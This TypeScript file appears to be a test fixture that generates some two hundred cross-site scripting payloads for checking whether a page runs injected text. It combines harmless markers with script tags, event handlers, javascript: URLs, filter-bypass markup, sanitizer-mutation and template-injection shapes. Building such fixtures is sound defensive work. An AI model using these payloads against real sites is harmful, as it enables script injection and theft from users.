/**
 * Ways in which text becomes a program where it is put into a page carelessly: made by kinds, so that each is tried with
 * each way of running. `RUN` stands for what would run; a payload that ran sets `window.ran`, or opens a dialog.
 */
const RUN = [
  'window.ran=1',
  'alert(1)',
  "top['ran']=1",
  'self[`ran`]=1',
  "Function('window.ran=1')()",
  'setTimeout(`ran=1`)',
] as const

const SHAPES: readonly ((run: string) => string)[] = [
  // Elements that run by being there.
  run => `<script>${run}</script>`,
  run => `</title><script>${run}</script>`,
  run => `</textarea></style></template><script>${run}</script>`,
  run => `<scr<script>ipt>${run}</scr</script>ipt>`,
  run => `<SCRIPT/x>${run}</SCRIPT>`,
  run => `<svg><script>${run}</script></svg>`,
  run => `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
  // Handlers.
  run => `<img src=x onerror="${run}">`,
  run => `"><img src=x onerror="${run}">`,
  run => `'><img src=x onerror='${run.replace(/'/g, '&#39;')}'>`,
  run => `<svg/onload="${run}">`,
  run => `<body onload="${run}">`,
  run => `<details open ontoggle="${run}">x</details>`,
  run => `<input autofocus onfocus="${run}">`,
  run => `<video><source onerror="${run}"></video>`,
  run => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run}">x</b>`,
  run => `<p onmouseover="${run}" style="position:fixed;inset:0">x</p>`,
  run => `" autofocus onfocus="${run}" x="`,
  // Addresses.
  run => `javascript:${run}`,
  run => `JaVa\tScript:${run}`,
  run => `<a href="javascript:${run}">x</a>`,
  run => `<iframe src="javascript:${run}"></iframe>`,
  run => `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  run => `<object data="data:text/html,<script>${run}</script>"></object>`,
  run => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  run => `<form action="javascript:${run}"><button>x</button></form>`,
  // What mends broken markup, or reads templates, may build it anew.
  run =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  run => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  run => `&lt;img src=x onerror=${run}&gt;`,
  run => `\\u003cimg src=x onerror=${run}\\u003e`,
  run => `{{constructor.constructor('${run.replace(/'/g, "\\'")}')()}}`,
  run => `\${${run}}`,
  run => `"};${run};//`,
  run => `]]><script>${run}</script>`,
]

/** All of them: some two hundred. */
export const PAYLOADS: readonly string[] = SHAPES.flatMap(shape => RUN.map(shape))
